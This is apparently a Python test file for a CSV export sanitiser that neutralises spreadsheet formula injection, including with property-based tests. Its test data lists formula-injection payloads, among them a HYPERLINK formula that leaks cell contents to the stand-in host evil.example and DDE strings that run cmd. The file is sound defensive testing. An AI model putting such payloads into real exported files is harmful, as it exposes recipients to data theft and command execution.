"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opsportal.kit.csvsafe import FORMULA_STARTS, csv_text, safe_cell, safe_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "  =1+1",
]
# A formula after a separator that a spreadsheet may split on, where we do not.
SPLIT_ATTACKS = [
    "Bob;=cmd|' /C calc'!A0",
    "Eve\t=1+1",
    "Pipe|@SUM(A1:A9)",
    "Comma, -1+1",
    'Quoted; "=1+1',
    "Line\n=1+1",
    "\t=1+1",
    "\r=1+1",
]
SPLITS = [",", ";", "\t", "|"]


def starts_a_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula character after spaces, controls or quotes."""
    return cell.lstrip("".join(map(chr, range(33))) + '\x7f"').startswith(("=", "+", "-", "@"))


def only_quotes_added(cell: str, original: str) -> bool:
    """`cell` is `original` with nothing but `'` characters put in."""
    rest = iter(original)
    wanted = next(rest, None)
    for char in cell:
        if char == wanted:
            wanted = next(rest, None)
        elif char != "'":
            return False
    return wanted is None


class TestSafeCell:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_formula_text_is_prefixed(self, attack: str) -> None:
        assert safe_cell(attack) == "'" + attack

    @pytest.mark.parametrize(
        "text", ["Harbor Health", "", "a=b", "1-800 Flowers", "O'Brien & Co", "Zoë Łukasz"]
    )
    def test_ordinary_text_is_unchanged(self, text: str) -> None:
        assert safe_cell(text) == text

    @pytest.mark.parametrize("attack", SPLIT_ATTACKS)
    @pytest.mark.parametrize("separator", SPLITS)
    def test_no_piece_starts_a_formula_however_the_cell_is_split(
        self, attack: str, separator: str
    ) -> None:
        cell = safe_cell(attack)
        assert only_quotes_added(cell, attack)
        for piece in cell.replace("\r", separator).replace("\n", separator).split(separator):
            assert not starts_a_formula(piece), (cell, piece)

    def test_a_separator_gets_its_mark_right_after_it(self) -> None:
        assert safe_cell("Bob;=cmd|' /C calc'!A0") == "Bob;'=cmd|' /C calc'!A0"
        assert safe_cell("Eve\t=1+1") == "Eve\t'=1+1"
        assert safe_cell("\t=1+1") == "'\t'=1+1"

    def test_numbers_stay_numbers(self) -> None:
        assert safe_row([-3.5, -2, Decimal("-0.25"), 0, True, None]) == [
            "-3.5",
            "-2",
            "-0.25",
            "0",
            "true",
            "",
        ]

    def test_dates_are_iso(self) -> None:
        assert safe_cell(date(2026, 11, 28)) == "2026-11-28"
        assert safe_cell(datetime(2026, 11, 28, 2, 0, tzinfo=UTC)) == "2026-11-28T02:00:00+00:00"


class TestCsvText:
    def test_a_hostile_organisation_name_reaches_the_file_as_text(self) -> None:
        text = csv_text(["id", "name", "value"], [[1, "=2+5", -1.5], [2, "Acme, Inc.", 3]])
        assert text == ('"id","name","value"\r\n"1","\'=2+5","-1.5"\r\n"2","Acme, Inc.","3"\r\n')

    @given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
    def test_no_text_cell_ever_starts_a_formula(self, rows: list[list[str]]) -> None:
        width = max((len(r) for r in rows), default=1)
        parsed = list(csv.reader(io.StringIO(csv_text([f"c{i}" for i in range(width)], rows))))
        cells = [cell for row in parsed[1:] for cell in row]
        originals = [cell for row in rows for cell in row]
        assert len(cells) == len(originals)
        for cell, original in zip(cells, originals, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert not starts_a_formula(cell)
            assert only_quotes_added(cell, original)

    @given(st.lists(st.text(alphabet=st.sampled_from("ab =+-@,;|\t\r\n\"'"), max_size=12)))
    def test_split_on_any_separator_no_cell_starts_a_formula(self, row: list[str]) -> None:
        text = csv_text(["name"] * len(row), [row]) if row else ""
        for separator in SPLITS:
            for line in text.splitlines():
                for piece in line.split(separator):
                    assert not starts_a_formula(piece.strip('"')), (separator, line, piece)
